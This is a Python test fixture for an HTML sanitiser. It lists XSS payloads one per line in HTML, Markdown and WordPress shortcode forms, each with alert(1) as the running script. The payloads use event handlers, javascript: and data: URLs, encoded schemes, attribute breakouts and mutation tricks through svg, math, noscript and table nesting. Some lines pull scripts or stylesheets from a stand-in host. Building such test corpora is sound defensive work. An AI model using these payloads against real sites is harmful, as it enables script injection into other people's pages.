"""What people who attack sanitisers send: one attack a line. `X` stands for what would run, `⏎` for a new line."""

# The families: plain scripts and handlers; addresses with schemes; tags cut short or run together; mutation (a second
# parse that reads otherwise than the first: foreign content, raw text, misnested tables and forms); what a text's own
# syntax could turn into HTML; what the steps after sanitising could.
HTML = r"""
<script>X</script>
<scr<script>ipt>X</scr</script>ipt>
<SCRIPT SRC=//x.example/a.js></SCRIPT>
<script/x>X</script>
<script⏎>X</script⏎>
<<script>X//<</script>
<script <b>X</script>
<img src=x onerror=X>
<img src="/media/2011/10/port.jpg" onerror=X>
<img src=`x` onerror=X>
<img/src=x/onerror=X>
<img src=x:x onerror=X//
<img src='x' alt='"' onerror='X'>
<img alt="a>b" src=x onerror=X>
<img src="/media/2011/10/port.jpg" alt="&quot; onload=&quot;X">
<img src="/media/2011/10/port.jpg" alt='" onload="X' class='"><script>X</script>'>
<img src="/media/wicked.jpg">
<img src="javascript:X">
<img srcset="x 1x" onload=X>
<img src=x style="background:url(javascript:X)">
<body onload=X>
<a href="javascript:X">a</a>
<a href=" javascript:X">a</a>
<a href="java&#x09;script:X">a</a>
<a href="&#106;avascript&colon;X">a</a>
<a href="jAvA&Tab;script&NewLine;:X">a</a>
<a href="&#x0000106avascript:X">a</a>
<a href="data:text/html,<script>X</script>">a</a>
<a href="vbscript:X">a</a>
<a href="\x01javascript:X">a</a>
<a href="javascript:X"><a href="javascript:X">a</a></a>
<a href=x<a href="javascript:X">a</a>
<a href="//x.example/" target=_blank ping=//x.example/>a</a>
<a href='x' title='"><img src=x onerror=X>'>a</a>
<a href="https://a.example/uploads/a'b&quot;c>d">a</a>
<a href="https://www.youtube.com/watch?v=abcdefghijk&quot;onclick=&quot;X">https://www.youtube.com/watch?v=abcdefghijk"onclick="X</a>
<form action=javascript:X><button>a</button></form>
<form id=respond><input name=parent></form>
<button formaction=javascript:X>a</button>
<isindex action=javascript:X>
<iframe src=javascript:X></iframe>
<iframe srcdoc="<script>X</script>"></iframe>
<iframe src="https://x.example/" title='"><img src=x onerror=X>'></iframe>
<iframe src="https://www.youtube.com/embed/abcdefghijk" title="</a><script>X</script>"></iframe>
<object data=javascript:X></object>
<embed src=javascript:X>
<base href=//x.example/>
<meta http-equiv=refresh content="0;javascript:X">
<link rel=stylesheet href=//x.example/x.css>
<style>@import "//x.example/x.css";</style>
<div style="width:expression(X)">a</div>
<p style='text-align:center" onclick="X'>a</p>
<p style="text-align:center" onclick="X">a</p>
<table background=javascript:X><td background=javascript:X>a</table>
<input autofocus onfocus=X>
<details open ontoggle=X>a</details>
<video onerror=X><source onerror=X></video>
<video poster="javascript:X" src="/media/2011/10/film.mp4"></video>
<video src="/media/2011/10/film.mp4" title='"><img src=x onerror=X>'></video>
<audio src=//x.example/a.mp3 onerror=X>
<video><source src="/media/2011/10/film.mp4"><script>X</script></video>
<marquee onstart=X>a</marquee>
<svg onload=X>
<svg><script>X</script></svg>
<svg><a xlink:href="javascript:X"><text>a</text></a></svg>
<svg><style><img src=x onerror=X></style></svg>
<svg></p><style><a id="</style><img src=x onerror=X>">
<svg><p><style><!--</style><img src=x onerror=X>--></svg>
<svg><title><p id="</title><img src=x onerror=X>">
<svg><foreignObject><p><img src=x onerror=X></p></foreignObject></svg>
<svg><desc><noscript><img src=x onerror=X></noscript></desc></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=X src=1>"></textarea>
<math><annotation-xml encoding="text/html"><img src=x onerror=X></annotation-xml></math>
<math href="javascript:X">a</math>
<math><mi//xlink:href="data:x,<script>X</script>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>
<noscript><p title="</noscript><img src=x onerror=X>">
<noscript><style></noscript><img src=x onerror=X></style>
<textarea><img title="</textarea><img src=x onerror=X>"></textarea>
<title><a href="</title><img src=x onerror=X>">a</title>
<xmp><p title="</xmp><img src=x onerror=X>"></xmp>
<noembed><img title="</noembed><img src=x onerror=X>"></noembed>
<noframes><img title="</noframes><img src=x onerror=X>"></noframes>
<template><img src=x onerror=X></template>
<select><template><style></select><img src=x onerror=X></style></template>
<select><iframe></select><img src=x onerror=X>
<option><style></option></select><b><img src=x onerror=X></style>
<table><tr><td><a></table><img src=x onerror=X>
<table><caption><svg><style></table><img src=x onerror=X></style>
<p><table><p title="<img src=x onerror=X>">a</table>
<b><p><i></b><img src=x onerror=X></i></p>
<a><table><a href="javascript:X">a</table>
<pre>⏎<img src=x onerror=X></pre>
<pre><svg><style></pre><img src=x onerror=X>
<!--><img src=x onerror=X>-->
<!--x--!><img src=x onerror=X>-->
<!-- --><img src=x onerror=X><!-- -->
<![CDATA[<img src=x onerror=X>]]>
<?php X ?><img src=x onerror=X>
<!DOCTYPE x [<!ENTITY x "<script>X</script>">]>&x;
</p title="<img src=x onerror=X>">
<x:script>X</x:script>
<a/b/c="<img src=x onerror=X>">
<img src="x` `<script>X</script>"` `>
&lt;script&gt;X&lt;/script&gt;
&amp;lt;script&amp;gt;X&amp;lt;/script&amp;gt;
&#60;script&#62;X&#60;/script&#62;
+ADw-script+AD4-X+ADw-/script+AD4-
<h2 id="respond"><a href="javascript:X">a</a></h2>
<h2 id='x" onclick="X'>a</h2>
<h2>"><img src=x onerror=X></h2>
<h2 title="<h2>">a</h2></h3><h2>b</h1>
<table title="<table>"><tr><td></table></table>
<div class="footnote" role=alert tabindex=99 aria-label=x data-player="https://x.example/">a</div>
<a data-player="https://x.example/" href=x>a</a>
<p class="embed h-card u-url comment"><a class="u-url" href="https://x.example/">a</a></p>
<p id=comment-1>a</p><p id=comment-1>b</p>
<img src="/media/2011/10/port.jpg" width="1e9" height="-1" sizes="x" srcset="//x.example/a.jpg 1w">
<picture><source srcset=//x.example/a.jpg><img src=//x.example/b.jpg></picture>
"><img src=x onerror=X>
" onmouseover="X
«"<img src=x onerror=X>"»
'<a title='"' href="x">a</a>'
""" .strip("\n")  # fmt: skip

MARKDOWN = r"""
[a](javascript:X)
[a](  javascript:X)
[a](<javascript:X>)
[a](java⏎script:X)
[a](&#x6A;avascript:X)
[a](data:text/html,X)
[a][b]⏎⏎[b]: javascript:X
<javascript:X>
<https://x.example/"onclick="X>
![a](x"onerror="X)
![a" onerror="X](/media/2011/10/port.jpg)
![a](/media/2011/10/port.jpg "\" onerror=\"X")
![a](/media/2011/10/port.jpg '"><script>X</script>')
![<img src=x onerror=X>](/media/2011/10/port.jpg)
![a](javascript:X)
![a](/media/2011/10/film.mp4 "<img src=x onerror=X>")
![" autoplay onplay="X](/media/2011/10/film.mp4)
a {: onclick="X" style="x" id="respond" }
# a {: onclick="X" #comment-1 }
[a](b){: href="javascript:X" onclick=X }
![a](/media/2011/10/port.jpg){: onerror="X" srcset="//x.example/a" }
```{ .python onclick="X" }⏎a⏎```
```"><script>X</script>⏎a⏎```
`<script>X</script>`
*[a"onclick="X]: b⏎⏎a
*[a]: b" onclick="X⏎⏎a
[^1]⏎⏎[^1]: <img src=x onerror=X>
[^"><script>X</script>]⏎⏎[^"><script>X</script>]: a
<div markdown="1" onclick="X">⏎⏎[a](javascript:X)⏎⏎</div>
<div markdown="<img src=x onerror=X>">a</div>
a⏎: <img src=x onerror=X>
|a"|<script>X</script>|⏎|-|-|⏎|<img src=x onerror=X>|[a](javascript:X)|
\<img src=x onerror=X>
https://www.youtube.com/watch?v=abcdefghijk"onclick="X
https://www.youtube.com/watch?v=abcdefghijk&x=<script>X</script>
https://w.soundcloud.com/player/?url=https%3A//x.example/%22onclick=%22X
https://vimeo.com/123456789?h="><script>X</script>
https://x.example/'"><img src=x onerror=X>
""".strip("\n")

WORDPRESS = r"""
[caption id="x" align="alignleft" onclick="X"]<img src=x onerror=X> a[/caption]
[caption align="alignleft&quot; onclick=&quot;X"]<img src="/media/2011/10/port.jpg"> <script>X</script>[/caption]
[caption caption="<img src=x onerror=X>"]<img src="/media/2011/10/port.jpg">[/caption]
[gallery ids="7,8" onclick="X"]
[gallery ids="7\"><script>X</script>"]
[video src="https://x.example/a.mp4?\"onplay=\"X"]
[audio src='https://x.example/a.mp3' onplay="X"]
[embed]https://x.example/"onclick="X[/embed]
[embed]javascript:X[/embed]
<!-- wp:html --><script>X</script><!-- /wp:html -->
<!-- wp:x {"a":"--><img src=x onerror=X>"} -->
<pre data-kept=0>a</pre><pre><script>X</script></pre>
<textarea><pre data-kept=1></textarea><img src=x onerror=X>
<pre data-kept=99999>a
<p>a⏎⏎<img src=x onerror=X
""".strip("\n")


def attacks():
    """Yield (attack, format) for each."""
    for attack in entries(HTML):
        yield attack, "markdown"
        yield attack, "wordpress"
    for attack in entries(MARKDOWN):
        yield attack, "markdown"
    for attack in entries(WORDPRESS):
        yield attack, "wordpress"


def entries(text):
    return [line.replace("⏎", "\n").replace("X", "alert(1)") for line in text.split("\n") if line.strip()]
